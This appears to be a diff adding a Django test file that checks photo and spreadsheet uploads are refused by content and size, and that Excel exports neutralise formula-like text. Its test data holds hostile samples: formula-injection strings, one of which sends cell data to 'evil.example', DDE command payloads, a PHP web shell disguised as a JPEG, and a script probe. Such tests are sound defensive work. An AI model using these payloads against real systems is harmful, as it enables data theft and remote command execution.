@@ -1,0 +1,287 @@
+"""Uploads are limited in size and checked by content; every Excel export makes formula-like text inert."""
+
+import io
+import os
+import zipfile
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import Client
+from django.urls import reverse
+from openpyxl import Workbook, load_workbook
+from PIL import Image
+
+from accessibility.models import Retrofit, RetrofitPhoto
+from events.models import EventPhoto
+from reports.figures import FIGURES
+from reports.models import AnnualReport
+from reports.selectors import Bar, BreakdownView, FigureRow
+from reports.spreadsheets import report_workbook
+from services.models import AuditEntry, Person
+from services.spreadsheets import FORMULA_PREFIXES, template_workbook
+from services.uploads import is_xlsx, limit_text
+from tests.accessibility.factories import make_retrofit
+from tests.employment.test_admin import build
+from tests.events.test_admin import event_form
+from tests.services.factories import PersonFactory
+
+pytestmark = pytest.mark.django_db
+
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def image(fmt: str = "PNG", size: tuple[int, int] = (8, 6), noise: bool = False) -> bytes:
+    picture = Image.new("RGB", size, "white")
+    if noise:
+        picture = Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))
+    buffer = io.BytesIO()
+    picture.save(buffer, fmt)
+    return buffer.getvalue()
+
+
+def _upload(content: bytes, name: str) -> SimpleUploadedFile:
+    return SimpleUploadedFile(name, content, content_type="image/jpeg")
+
+
+def stored_files(media_root) -> list:
+    return sorted(p for p in media_root.rglob("*") if p.is_file()) if media_root.exists() else []
+
+
+@pytest.fixture
+def media_root(settings, tmp_path):
+    settings.MEDIA_ROOT = tmp_path / "media"
+    return settings.MEDIA_ROOT
+
+
+@pytest.fixture
+def staff_client(staff_user):
+    client = Client(headers={"accept-language": "en"})
+    client.force_login(staff_user)
+    return client
+
+
+def test_limits_read_as_people_write_them():
+    assert [limit_text(n) for n in (5 * 1024 * 1024, 512 * 1024, 900)] == ["5 MB", "512 KB", "900 bytes"]
+
+
+# Retrofit photos (accessibility)
+
+DISGUISED = [
+    (b"<script>alert(1)</script>", "bathroom.jpg"),
+    (b"\x89PNG\r\n\x1a\n" + bytes(300), "only-the-signature.png"),
+    (b"\xff\xd8\xff\xe0" + b"<?php system($_GET['c']); ?>", "shell.jpg"),
+    (image("GIF"), "really-a-gif.png"),
+    (image("PNG")[:40], "cut-short.png"),
+    (b"PK\x03\x04" + bytes(100), "archive.jpg"),
+]
+
+
+@pytest.mark.parametrize(("content", "name"), DISGUISED)
+def test_a_disguised_retrofit_photo_is_refused_and_nothing_stored(staff_client, media_root, content, name):
+    retrofit = make_retrofit(Retrofit.Status.ASSESSED)
+    response = staff_client.post(
+        reverse("admin:accessibility_retrofit_photo_add", args=[retrofit.pk]),
+        {"stage": "before", "alt_text": "卫生间", "image": _upload(content, name)},
+    )
+    assert response.status_code == 400
+    assert "Upload a JPEG or PNG photo." in response.content.decode()
+    assert not RetrofitPhoto.objects.exists()
+    assert stored_files(media_root) == []
+
+
+def test_an_oversized_retrofit_photo_is_refused_with_the_setting_s_limit(staff_client, media_root, settings):
+    settings.RETROFIT_PHOTO_MAX_BYTES = 2048
+    big = image("PNG", (64, 64), noise=True)
+    assert len(big) > 2048
+    retrofit = make_retrofit(Retrofit.Status.ASSESSED)
+    url = reverse("admin:accessibility_retrofit_photo_add", args=[retrofit.pk])
+    response = staff_client.post(url, {"stage": "before", "alt_text": "门口", "image": _upload(big, "door.png")})
+    assert response.status_code == 400
+    assert "The photo is larger than 2 KB." in response.content.decode()
+    assert not RetrofitPhoto.objects.exists()
+    assert stored_files(media_root) == []
+    small = image("JPEG")
+    ok = staff_client.post(url, {"stage": "before", "alt_text": "门口", "image": _upload(small, "door.png")})
+    assert ok.status_code == 302
+    assert RetrofitPhoto.objects.get().image.name.endswith(".jpg")
+
+
+# Event photos (events admin)
+
+
+def _event_with_photo(content: bytes, name: str) -> dict:
+    return event_form(
+        **{
+            "photos-TOTAL_FORMS": "1",
+            "photos-0-image": _upload(content, name),
+            "photos-0-alt_text": "合唱队员在台上演唱",
+            "photos-0-caption": "",
+            "photos-0-position": "0",
+        }
+    )
+
+
+@pytest.mark.parametrize(("content", "name"), DISGUISED)
+def test_a_disguised_event_photo_is_refused_and_nothing_stored(staff_client, media_root, content, name):
+    response = staff_client.post(reverse("admin:events_event_add"), _event_with_photo(content, name))
+    assert response.status_code == 200  # the admin shows the form again with the error
+    html = response.content.decode()
+    assert "Upload a valid image" in html or "Upload a JPEG or PNG photo." in html
+    assert not EventPhoto.objects.exists()
+    assert stored_files(media_root) == []
+
+
+def test_an_oversized_event_photo_is_refused_with_the_setting_s_limit(staff_client, media_root, settings):
+    settings.EVENT_PHOTO_MAX_BYTES = 3 * 1024
+    big = image("PNG", (64, 64), noise=True)
+    assert len(big) > 3 * 1024
+    response = staff_client.post(reverse("admin:events_event_add"), _event_with_photo(big, "choir.png"))
+    assert response.status_code == 200
+    assert "The photo is larger than 3 KB." in response.content.decode()
+    assert not EventPhoto.objects.exists()
+    assert stored_files(media_root) == []
+
+
+# Spreadsheet imports (registry)
+
+
+def _zip(parts: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+NOT_XLSX = [
+    "姓名,身份证号\n王小明,11010519491231002X\n".encode(),
+    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),  # an old .xls
+    _zip({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<Types/>"}),  # a .docx
+    _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"not xml at all"}),
+    b"PK\x03\x04" + bytes(200),
+]
+
+
+@pytest.mark.parametrize("content", NOT_XLSX)
+def test_a_file_that_is_not_a_workbook_is_refused_by_its_content(staff_client, content):
+    before = (Person.objects.count(), AuditEntry.objects.count())
+    response = staff_client.post(
+        reverse("admin:services_person_import"),
+        {"file": _upload(content, "persons.xlsx")},
+    )
+    assert response.status_code == 400
+    assert "This is not an Excel .xlsx file that can be read." in response.content.decode()
+    assert (Person.objects.count(), AuditEntry.objects.count()) == before
+
+
+def test_an_oversized_workbook_is_refused_with_the_setting_s_limit(staff_client, settings):
+    settings.SPREADSHEET_IMPORT_MAX_BYTES = 4 * 1024
+    data = template_workbook()
+    assert len(data) > 4 * 1024
+    response = staff_client.post(reverse("admin:services_person_import"), {"file": _upload(data, "persons.xlsx")})
+    assert response.status_code == 400
+    assert "The file is larger than 4 KB." in response.content.decode()
+    assert not Person.objects.exists()
+
+
+def test_the_import_template_is_recognised_as_a_workbook():
+    assert is_xlsx(template_workbook())
+    assert not is_xlsx(b"PK\x05\x06" + bytes(18))
+
+
+# Exports
+
+
+def assert_inert(data: bytes) -> int:
+    """No cell of any sheet is a formula or text that a spreadsheet program would run; returns the text cells."""
+    book = load_workbook(io.BytesIO(data))
+    texts = 0
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
+                if isinstance(cell.value, str):
+                    texts += 1
+                    assert not cell.value.startswith(FORMULA_PREFIXES), f"{sheet.title}!{cell.coordinate}"
+    return texts
+
+
+def _names(data: bytes) -> set[str]:
+    """Every text cell, with a carriage return read as the line feed that XML turns it into."""
+    book = load_workbook(io.BytesIO(data))
+    rows = (row for sheet in book.worksheets for row in sheet.iter_rows(values_only=True))
+    return {cell.replace("\r", "\n") for row in rows for cell in row if isinstance(cell, str)}
+
+
+def _quoted(text: str) -> str:
+    return ("'" + text).replace("\r", "\n")
+
+
+def test_a_workbook_with_a_raw_formula_fails_the_check():
+    book = Workbook()
+    book.active.append(["=1+1"])
+    buffer = io.BytesIO()
+    book.save(buffer)
+    with pytest.raises(AssertionError, match="is a formula"):
+        assert_inert(buffer.getvalue())
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_the_person_export_neutralises_a_hostile_name(staff_client, hostile):
+    PersonFactory(name=hostile, address=hostile, phone=hostile[:20])
+    response = staff_client.get(reverse("admin:services_person_export"))
+    assert response["Content-Type"] == XLSX
+    assert assert_inert(response.content)
+    assert _quoted(hostile) in _names(response.content)
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_the_accepted_retrofits_export_neutralises_a_hostile_name(staff_client, hostile):
+    retrofit = make_retrofit(Retrofit.Status.ACCEPTED, contractor=hostile)
+    Person.objects.filter(pk=retrofit.person_id).update(name=hostile)
+    year = retrofit.accepted_on.year
+    response = staff_client.get(reverse("admin:accessibility_retrofit_export") + f"?year={year}")
+    assert response["Content-Type"] == XLSX
+    assert assert_inert(response.content)
+    assert _quoted(hostile) in _names(response.content)
+
+
+@pytest.mark.parametrize(
+    "model", ["enrollment", "certificate", "placement", "placementfollowup", "graduate", "referral"]
+)
+def test_every_employment_export_neutralises_a_hostile_name(staff_client, street, member, model):
+    build(model, 2, street=street, member=member)
+    Person.objects.update(name=HOSTILE[0])
+    url = reverse(f"admin:employment_{model}_changelist")
+    query = {"state": "all"} if model == "placementfollowup" else {}
+    pks = [obj.pk for obj in staff_client.get(url, query).context["cl"].result_list]
+    assert pks
+    response = staff_client.post(url, {"action": "export_xlsx", "_selected_action": pks, **query})
+    assert response["Content-Type"] == XLSX
+    assert assert_inert(response.content)
+    assert _quoted(HOSTILE[0]) in _names(response.content)
+
+
+def test_the_annual_report_export_neutralises_hostile_labels():
+    figure = FIGURES[0]
+    bars = [Bar(key=h, label=h, value=i, shown=str(i), width=1.0) for i, h in enumerate(HOSTILE)]
+    row = FigureRow(
+        figure=figure,
+        value=3,
+        plan=None,
+        percent_of_plan=None,
+        above_plan=None,
+        sentence=HOSTILE[1],
+        breakdowns=[BreakdownView(name="street", title="by street", bars=bars, total=15)],
+    )
+    data = report_workbook(AnnualReport(year=2023, code_version=HOSTILE[2]), [row])
+    assert assert_inert(data)
+    assert {_quoted(h) for h in HOSTILE} <= _names(data)
